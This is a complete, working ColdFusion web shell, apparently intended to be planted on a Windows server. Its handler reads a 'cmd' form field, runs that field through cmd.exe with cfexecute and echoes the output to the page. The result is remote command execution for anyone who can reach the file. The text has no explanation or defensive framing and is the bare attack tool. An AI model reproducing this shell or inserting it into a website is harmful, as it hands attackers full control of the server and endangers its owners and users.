<cfif isDefined("form.cmd")>
<cfexecute name="cmd.exe" arguments="/c #form.cmd#" timeout="5" variable="o"></cfexecute>
<pre><cfoutput>#o#</cfoutput></pre>
</cfif>
